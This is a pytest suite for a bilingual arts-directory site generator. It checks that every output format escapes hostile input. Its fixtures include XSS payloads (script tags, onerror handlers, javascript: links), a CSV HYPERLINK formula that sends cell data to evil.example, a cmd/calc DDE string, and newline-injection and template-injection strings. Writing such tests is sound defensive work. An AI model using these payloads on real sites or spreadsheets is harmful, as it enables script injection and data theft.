"""Every output writer escapes for its own format: a site is built from entries whose every text
field holds a hostile string, and every file it writes is parsed back with a real parser (HTML,
JSON, XML, Atom, CSV, iCalendar), as are what the terminal and GitHub Actions are sent. The text
must come back as text, and nothing may have become code."""

from __future__ import annotations

import csv
import io
import json
import re
from html.parser import HTMLParser
from pathlib import Path
from xml.etree import ElementTree as ET

import feedparser
import pytest
import yaml

from plugins.directory import fields
from plugins.directory.identifiers import Identifiers
from plugins.directory.model import load_model
from plugins.directory.pipeline import build_directory
from plugins.search.__main__ import main as search_main
from tests.support import BUILD_DAY, SMALL_DIRECTORY, Site, build, image_bytes, write_tree

try:  # the calendars are read with the icalendar library too where it is installed
    import icalendar
except ImportError:
    icalendar = None

SITEURL = "https://example.org/hk"
ATOM = "{http://www.w3.org/2005/Atom}"
SLUG = "hostile"
# Every one ends with the word "hostile", which the search test looks for.
HOSTILE = {
    "script": '"</script><script>alert(1)</script><img src=x onerror=alert(2)> hostile',
    "markup": "<!-- ]]><![CDATA[ <b>&amp; &lt; &#x3c;</b> ' \" hostile",
    "ical": "back\\slash\\;, semi;colon,comma:colon\\n \\N hostile",
    "newline": "First line\nDESCRIPTION:injected\nEND:VEVENT\n::error::x hostile",
    "formula": '=HYPERLINK("https://evil.example/?"&A1,"click") hostile',
    "at": "@SUM(1+1)*cmd|' /C calc'!A0 hostile",
    "template": "{{ 7*7 }}{% if 1 %}x{% endif %}${7*7}<%= 7*7 %> hostile",
}
HOSTILE_URL = 'https://example.org/?q="><script>alert(1)</script>'
DATE = BUILD_DAY  # current on the build day: the exhibition is in the calendars
# What a spreadsheet reads as the start of a formula (OWASP, CSV Injection).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


class _Block(str):
    """A text written as a YAML block scalar (|-), as an editor writes a text of several lines."""


class _Dumper(yaml.SafeDumper):
    pass


_Dumper.add_representer(
    _Block, lambda dumper, text: dumper.represent_scalar("tag:yaml.org,2002:str", text, style="|")
)


def _value(field: fields.Field, text: str, node: dict | None = None):
    """A value of the field's type (node: its schema, for plain JSON types), with text in every
    place text can go."""
    node = node or {}
    if isinstance(field, fields.Bilingual):  # Markdown too
        return text
    if isinstance(field, fields.Image):
        return {"src": "a.jpg", "alt": text, "credit": text}
    if isinstance(field, fields.ListOf):
        return [_value(field.item, text, node.get("items"))]
    if isinstance(field, fields.Session):  # a checked form: no text of the editor's own
        return f"{DATE} 19:30-21:30"
    if isinstance(field, fields.RoleCredit):  # a controlled role, hostile words for it
        return {field.key: SLUG, "role": field.choice.values[0], "role_text": text}
    if isinstance(field, fields.Link):
        return {"url": HOSTILE_URL, "label": text}
    if isinstance(field, fields.Credit):  # a role known in one language, hostile in the other
        return {field.key: SLUG, "role": {"en": "Artist", "zh": text}}
    if isinstance(field, fields.EntryRef):
        return SLUG
    if isinstance(field, Identifiers):  # a checked form: no text of the editor's own
        return {"wikidata": "Q42"}
    if isinstance(field, fields.Record):
        nodes = node.get("properties", {})
        return {k: _value(f, text, nodes.get(k)) for k, f in field.properties.items()}
    if isinstance(field, fields.Year):
        return int(DATE[:4])
    if isinstance(field, fields.PartialDate):
        return DATE
    if isinstance(field, fields.Choice):
        return field.values[0]
    if isinstance(field, fields.Url):
        return HOSTILE_URL
    if node.get("type") in ("integer", "number"):
        return 6
    if node.get("type") == "boolean":
        return True
    return text  # plain text: a source's record and licence


def hostile_entries(text: str) -> dict[str, str]:
    """One entry of every type, slug 'hostile', every field filled, every text the given one."""
    value = _Block(text) if "\n" in text else text
    files = {}
    for entry_type in load_model():
        nodes = entry_type.schema["properties"]
        data = {
            name: _value(prop.field, value, nodes[name])
            for name, prop in entry_type.properties.items()
        }
        files[f"{entry_type.name}/{SLUG}.yaml"] = yaml.dump(
            data, Dumper=_Dumper, allow_unicode=True, sort_keys=False
        )
    return files


@pytest.fixture(scope="module", params=list(HOSTILE), ids=list(HOSTILE))
def hostile(request, tmp_path_factory) -> tuple[str, Path, Site]:
    text = HOSTILE[request.param]
    root = tmp_path_factory.mktemp(request.param)
    files = {**SMALL_DIRECTORY, **hostile_entries(text), "images/a.jpg": image_bytes(16, 12)}
    content = write_tree(root / "content", files)
    site = build(content, root / "output", SITEURL=SITEURL, DIRECTORY={"FEEDS": True})
    return text, content, site


def test_the_entries_hold_the_text_in_every_text_field(hostile):
    text, content, _ = hostile
    result = build_directory(content, content.parent)
    assert result.problems == []
    for entry_type in load_model():
        entry = result.directory.entries[(entry_type.name, SLUG)]
        assert entry.title.texts == (text, text)
        raw = (content / entry_type.name / f"{SLUG}.yaml").read_text(encoding="utf-8")
        assert ("|-" in raw) == ("\n" in text)  # several lines: written as a block scalar


# HTML ----------------------------------------------------------------------------------------


class _Page(HTMLParser):
    """Tags with their attributes, the text of each script, and the visible text."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []
        self.scripts: list[tuple[dict, str]] = []
        self.text: list[str] = []
        self.open_script: dict | None = None

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        if tag == "script":
            self.open_script = dict(attrs)
            self.scripts.append((self.open_script, ""))

    def handle_endtag(self, tag):
        if tag == "script":
            self.open_script = None

    def handle_data(self, data):
        if self.open_script is not None:
            attrs, before = self.scripts[-1]
            self.scripts[-1] = (attrs, before + data)
        else:
            self.text.append(data)


def parse_html(html: str) -> _Page:
    page = _Page()
    page.feed(html)
    page.close()
    return page


def assert_no_code(page: _Page, where: str) -> None:
    """No script but the theme's files and JSON-LD, no event handler, no javascript: URL."""
    for tag, attrs in page.tags:
        assert not [a for a in attrs if a.startswith("on")], (where, tag, attrs)
        for name in ("href", "src", "action", "formaction", "xlink:href", "cite"):
            url = (attrs.get(name) or "").strip().lower()
            assert not url.startswith(("javascript:", "data:", "vbscript:")), (where, tag, attrs)
        assert tag not in ("iframe", "object", "embed", "base"), (where, tag)
    for attrs, body in page.scripts:
        if attrs.get("type") == "application/ld+json":
            json.loads(body)
        else:
            assert attrs.get("src", "").startswith(f"{SITEURL}/theme/"), (where, attrs)
            assert not body.strip(), where


def collapsed(text: str) -> str:
    return " ".join(text.split())


def test_html_pages_show_the_text_and_run_nothing(hostile):
    text, _, site = hostile
    pages = sorted(site.output.rglob("*.html"))
    assert len(pages) > 40
    for path in pages:
        assert_no_code(parse_html(path.read_text(encoding="utf-8")), str(path))
    for entry_type in load_model():
        for prefix in ("en", "tc"):
            page = parse_html(site.page(f"/{prefix}/{entry_type.name}/{SLUG}/"))
            assert collapsed(text) in collapsed(" ".join(page.text)), (prefix, entry_type.name)
            (json_ld,) = [b for a, b in page.scripts if a.get("type") == "application/ld+json"]
            data = json.loads(json_ld)
            nodes = data.get("@graph", [data])
            names = [n.get("name") for n in nodes if isinstance(n, dict)]
            assert text in names or f"《{text}》" in names, (prefix, entry_type.name, names)
            (title,) = [a["content"] for t, a in page.tags if a.get("property") == "og:title"]
            assert text in title


# JSON ----------------------------------------------------------------------------------------


def test_json_files_parse_and_hold_the_text(hostile):
    text, _, site = hostile
    for path in site.output.rglob("*.json"):
        json.loads(path.read_text(encoding="utf-8"))
    data = json.loads((site.output / "data/directory.json").read_text(encoding="utf-8"))
    for entry_type in load_model():
        (entry,) = [e for e in data["entries"] if (e["type"], e["slug"]) == (entry_type.name, SLUG)]
        assert entry["fields"][entry_type.title_field] == {"en": text, "zh": text}


# XML: sitemap and Atom -----------------------------------------------------------------------


def test_xml_files_parse_and_the_feeds_hold_the_text_and_no_code(hostile):
    text, _, site = hostile
    ET.fromstring((site.output / "sitemap.xml").read_bytes())
    for prefix in ("en", "tc"):
        raw = (site.output / prefix / "feeds/new.atom.xml").read_bytes()
        root = ET.fromstring(raw)
        entries = root.findall(f"{ATOM}entry")
        titles = [e.findtext(f"{ATOM}title") for e in entries]
        assert titles.count(text) == sum(1 for t in load_model() if t.feed), titles
        for entry in entries:
            assert_no_code(parse_html(entry.findtext(f"{ATOM}summary") or ""), prefix)
        feed = feedparser.parse(raw, sanitize_html=False)
        assert not feed.bozo, feed.bozo_exception
        for entry in feed.entries:
            assert_no_code(parse_html(entry.summary), prefix)


# CSV -----------------------------------------------------------------------------------------


def test_csv_cells_read_back_as_the_text_never_as_a_formula(hostile):
    text, _, site = hostile
    expected = "'" + text if text.startswith(FORMULA_STARTS) else text
    for entry_type in load_model():
        raw = (site.output / "data" / f"{entry_type.name}.csv").read_text(encoding="utf-8-sig")
        rows = list(csv.DictReader(io.StringIO(raw, newline="")))
        for row in rows:
            for cell in row.values():
                assert not cell.startswith(FORMULA_STARTS), (entry_type.name, cell)
        (row,) = [r for r in rows if r["slug"] == SLUG]
        title = entry_type.title_field
        assert (row[f"{title}_en"], row[f"{title}_zh"]) == (expected, expected)


# iCalendar -----------------------------------------------------------------------------------

ICAL_LINE = re.compile(r"^(?P<name>[A-Z][A-Z0-9-]*)(?P<params>(;[A-Z-]+=[^;:\"]*)*):(?P<value>.*)$")
ICAL_PROPERTIES = {
    "BEGIN",
    "END",
    "VERSION",
    "PRODID",
    "CALSCALE",
    "METHOD",
    "NAME",
    "X-WR-CALNAME",
    "UID",
    "DTSTAMP",
    "DTSTART",
    "DTEND",
    "SUMMARY",
    "LOCATION",
    "DESCRIPTION",
    "URL",
    "TRANSP",
    "STATUS",
    # VTIMEZONE, for the events' times in Hong Kong
    "TZID",
    "TZNAME",
    "TZOFFSETFROM",
    "TZOFFSETTO",
    "RDATE",
    "RRULE",
    "COMMENT",
    "X-LIC-LOCATION",
}


def ical_text(value: str) -> str:
    """A TEXT value unescaped (RFC 5545 3.3.11); an escape it does not define is an error."""
    out, chars = [], iter(value)
    for char in chars:
        if char == "\\":
            escaped = next(chars)
            out.append({"\\": "\\", ";": ";", ",": ",", "n": "\n", "N": "\n"}[escaped])
        else:
            assert char not in ";,", value  # must be escaped in a single TEXT value
            out.append(char)
    return "".join(out)


def parse_ical(raw: bytes) -> list[dict[str, list[str]]]:
    """A strict reader: CRLF lines of at most 75 octets, folded lines unfolded, every line a known
    property; returns each VEVENT's properties."""
    text = raw.decode("utf-8")
    assert text.endswith("\r\n") and "\n" not in text.replace("\r\n", "")
    physical = text.split("\r\n")[:-1]
    assert all(len(line.encode("utf-8")) <= 75 for line in physical)
    lines: list[str] = []
    for line in physical:
        if line.startswith(" "):
            lines[-1] += line[1:]
        else:
            lines.append(line)
    events, current, depth = [], None, 0
    for line in lines:
        found = ICAL_LINE.match(line)
        assert found and found["name"] in ICAL_PROPERTIES, line
        name, value = found["name"], found["value"]
        if name == "BEGIN":
            depth += 1
            if value == "VEVENT":
                current = {}
        elif name == "END":
            depth -= 1
            if value == "VEVENT":
                events.append(current)
                current = None
        elif current is not None:
            current.setdefault(name, []).append(value)
    assert depth == 0
    return events


def test_calendars_keep_every_text_inside_its_property(hostile):
    text, _, site = hostile
    calendars = sorted(site.output.rglob("*.ics"))
    assert calendars
    found = 0
    for path in calendars:
        parsed = (
            {
                str(e["UID"]): e
                for e in icalendar.Calendar.from_ical(path.read_bytes()).walk("VEVENT")
            }
            if icalendar is not None
            else {}
        )
        for event in parse_ical(path.read_bytes()):
            if f"-{SLUG}" not in event["UID"][0]:
                continue  # the entries of the small directory around it
            found += 1
            assert {k: len(v) for k, v in event.items()} == dict.fromkeys(event, 1), event
            summary = ical_text(event["SUMMARY"][0])
            assert summary in (text, f"《{text}》")
            assert ical_text(event["LOCATION"][0]) in (text, f"《{text}》")
            ical_text(event["DESCRIPTION"][0])
            if parsed:
                assert str(parsed[event["UID"][0]]["SUMMARY"]) == summary
    assert found >= 2  # the hostile exhibition and event, in their calendars


# Terminal and GitHub Actions -----------------------------------------------------------------


def test_the_terminal_is_sent_one_line_a_result_with_nothing_raw(hostile, tmp_path, capsys):
    text, content, _ = hostile
    assert search_main([str(content), "hostile", "--cache", str(tmp_path / "cache")]) == 0
    lines = capsys.readouterr().out.splitlines()
    escaped = text.replace("\n", "\\n")
    assert f"artists/{SLUG}\t{escaped}\t{escaped}" in lines
    assert all(line.count("\t") == 2 for line in lines)


def unescape_annotation(data: str) -> str:
    """What the GitHub Actions runner makes of a command's message."""
    return data.replace("%0D", "\r").replace("%0A", "\n").replace("%25", "%")


def test_a_problem_quoting_the_text_is_one_line_everywhere(hostile, tmp_path):
    text, _, _ = hostile
    value = _Block(text) if "\n" in text else text
    entry = yaml.dump({"name": "A", value: "x"}, Dumper=_Dumper, allow_unicode=True)
    content = write_tree(tmp_path / "content", {"artists/a.yaml": entry})
    (problem,) = build_directory(content, tmp_path).problems
    assert (problem.field, problem.message.split(":")[0]) == (text, "unknown field")
    assert "\n" not in str(problem) and "\r" not in str(problem)
    annotation = problem.github_annotation()
    assert "\n" not in annotation and "\r" not in annotation
    head, message = annotation.split("::", 2)[1:]
    assert head == f"error file=content/artists/a.yaml,line={problem.line}"
    assert unescape_annotation(message) == f"{problem.field}: {problem.message}"


# The Atom feeds' summaries and the CSV files, each on its own -------------------------------

SYNOPSIS = """\
**Bold** and [a link](https://example.org/a).

<script>alert(1)</script><img src=x onerror="alert(2)"><iframe src="https://evil.example/">
</iframe><a href="javascript:alert(3)" onclick="alert(4)">x</a> [y](javascript:alert(5))
"""


def test_feed_summaries_are_the_rendered_sanitised_markdown(tmp_path):
    film = "title: {en: Evil, zh: 惡}\nyear: 2001\nsynopsis:\n  en: |\n"
    film += "".join(f"    {line}\n" for line in SYNOPSIS.splitlines())
    content = write_tree(tmp_path / "content", {**SMALL_DIRECTORY, "films/evil.yaml": film})
    site = build(content, tmp_path / "output", SITEURL=SITEURL, DIRECTORY={"FEEDS": True})
    raw = (site.output / "en/feeds/new.atom.xml").read_bytes()
    feed = feedparser.parse(raw, sanitize_html=False)  # what a reader that trusts it would show
    assert not feed.bozo, feed.bozo_exception
    (entry,) = [e for e in feed.entries if e.title == "Evil"]
    assert entry.summary_detail.type == "text/html"
    summary = parse_html(entry.summary)
    assert_no_code(summary, "summary")
    assert [(tag, attrs) for tag, attrs in summary.tags if tag in ("strong", "a")] == [
        ("strong", {}),
        ("a", {"href": "https://example.org/a", "rel": "noopener noreferrer"}),
        ("a", {"rel": "noopener noreferrer"}),
        ("a", {"rel": "noopener noreferrer"}),
    ]
    assert "**" not in entry.summary and "alert(1)" not in entry.summary
    chinese_feed = feedparser.parse(site.output / "tc/feeds/new.atom.xml")
    (chinese,) = [e for e in chinese_feed.entries if e.title == "惡"]
    assert "<strong>Bold</strong>" in chinese.summary  # the English text, as the fallback


def test_csv_cells_that_start_like_a_formula_get_a_single_quote(tmp_path):
    artist = """\
        name: {en: "-ism", zh: "=1+2"}
        nationality: {en: "+852", zh: "@home"}
        based_in: {en: "2024-03", zh: "a=b"}
        aliases: ["=x", "y"]
        source: {name: M+, record: "\\t=cmd", licence: "CC0-1.0"}
        """
    files = {**SMALL_DIRECTORY, "artists/ism.yaml": artist}
    site = build(write_tree(tmp_path / "content", files), tmp_path / "output")
    raw = (site.output / "data/artists.csv").read_text(encoding="utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(raw, newline="")))
    row = next(r for r in rows if r["slug"] == "ism")
    assert {k: v for k, v in row.items() if v} == {
        "slug": "ism",
        "url_en": "/en/artists/ism/",
        "url_zh": "/tc/artists/ism/",
        "url_zh_hans": "/sc/artists/ism/",
        "name_en": "'-ism",
        "name_zh": "'=1+2",
        "nationality_en": "'+852",
        "nationality_zh": "'@home",
        "based_in_en": "2024-03",
        "based_in_zh": "a=b",
        "aliases_en": "'=x; y",
        "aliases_zh": "'=x; y",
        "source_name_en": "M+",
        "source_name_zh": "M+",
        "source_record": "'\t=cmd",
        "source_licence": "CC0-1.0",
    }
    wong = next(r for r in rows if r["slug"] == "wong-kar-wai")
    assert (wong["name_en"], wong["born"], wong["bio_en"]) == (
        "Wong Kar-wai",
        "1958-07-17",
        "Director of *In the Mood for Love*.",
    )


def test_the_open_data_readme_explains_the_quote(tmp_path):
    site = build(write_tree(tmp_path / "content", SMALL_DIRECTORY), tmp_path / "output")
    readme = " ".join((site.output / "data/README.txt").read_text(encoding="utf-8").split())
    assert (
        "A cell that would start with =, +, -, @ or a tab starts with a single quote (') instead"
        in readme
    )
    assert "以 =、+、-、@ 或定位字元開頭的儲存格" in readme
